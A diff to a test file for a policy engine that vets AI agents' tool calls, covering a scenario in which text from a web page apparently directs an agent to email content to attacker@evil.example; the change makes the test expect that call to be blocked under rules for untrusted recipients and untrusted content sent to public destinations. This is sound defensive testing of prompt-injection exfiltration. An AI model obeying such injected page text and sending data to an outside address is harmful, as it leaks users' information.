@@ -121,7 +121,7 @@ describe('the SEP-1913 e-mail scenario through the engine', () => {
     expect(send.verdict.matched.map((m) => m.rule)).toContain('block-open-world-to-external');
   });
 
-  it('with the real default pack: attacker recipient escalated, user’s own recipient not', () => {
+  it('with the real default pack: the page’s text to the attacker refused, the user’s own summary not', () => {
     const { policy, problems } = loadPolicy({ packs: ['default'] });
     expect(problems.filter((p) => p.severity === 'error')).toEqual([]);
     const s = engineWith(policy!).session('d');
@@ -138,8 +138,12 @@ describe('the SEP-1913 e-mail scenario through the engine', () => {
       tool: 'send_email',
       arguments: { to: 'attacker@evil.example', subject: 'Summary', body: 'Great article.' },
     });
-    expect(bad.verdict.decision).toBe('escalate');
-    expect(bad.verdict.matched.map((m) => m.rule)).toContain('untrusted-recipient');
+    // The recipient came from the page (asks) and the body is the page's text bound for a public
+    // destination (blocks: SEP-1913's open-world → public, per value).
+    expect(bad.verdict.decision).toBe('block');
+    expect(bad.verdict.matched.map((m) => m.rule)).toEqual(
+      expect.arrayContaining(['untrusted-recipient', 'untrusted-content-to-public']),
+    );
     const good = s.beforeCall({
       id: 'w3',
       server: 'mail',
